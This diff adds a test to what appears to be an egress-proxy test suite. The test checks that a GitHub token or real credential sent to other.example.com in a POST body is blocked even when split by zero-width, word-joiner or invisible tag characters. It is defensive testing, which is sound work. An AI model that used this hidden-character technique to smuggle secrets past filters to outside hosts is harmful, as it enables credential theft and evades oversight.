@@ -451,6 +451,45 @@ describe('credential leaks', () => {
     assert.equal(records.find((r) => r.type === 'credential.leak')?.severity, 'critical');
   });
 
+  it('redteam-34-1: a token or the real value cut by hidden characters in a request body is refused as the whole one is', async () => {
+    const token = githubToken();
+    // Written whole; cut by a zero-width space; cut by a word joiner and a tag character (an
+    // invisible "A"). The body goes out as UTF-8, and the proxy reads its bytes as Latin-1.
+    const spellings = (v: string): string[] => [
+      v,
+      `${v.slice(0, 10)}\u200B${v.slice(10)}`,
+      `${v.slice(0, 6)}\u2060${v.slice(6, 20)}\u{E0041}${v.slice(20)}`,
+    ];
+    for (const [value, type, reason] of [
+      [token, 'network.secret', /github secret \(github-token, ghp_/],
+      [SECRET, 'credential.leak', /real value of credential "github" \((raw|cut by hidden characters)\)/],
+    ] as const)
+      for (const written of spellings(value)) {
+        fresh();
+        const reply = await viaConnect('other.example.com', {
+          method: 'POST',
+          path: '/notes',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ note: written }),
+        });
+        assert.equal(reply.status, 403, JSON.stringify(written));
+        assert.match(reply.headers['x-perimeter-reason'] as string, reason);
+        assert.equal(seen.length, 0, 'nothing reached the server');
+        const alert = records.find((r) => r.type === type);
+        assert.ok(alert, `${type} for ${JSON.stringify(written)}`);
+        if (type === 'credential.leak')
+          assert.equal(alert.outcome?.encoding, written === value ? 'raw' : 'hidden');
+      }
+    // The joiners and selectors of emoji are no secret: such a body goes.
+    fresh();
+    const emoji = await viaConnect('other.example.com', {
+      method: 'POST',
+      path: '/notes',
+      body: JSON.stringify({ note: 'shipped \u{1F469}\u200D\u{1F4BB} \u2764\uFE0F' }),
+    });
+    assert.equal(emoji.status, 200);
+  });
+
   it('egress-cred-13: a Host header naming another host on the bound connection is refused, nothing substituted', async () => {
     fresh();
     const socketReply = await viaConnect('api.example.com', {
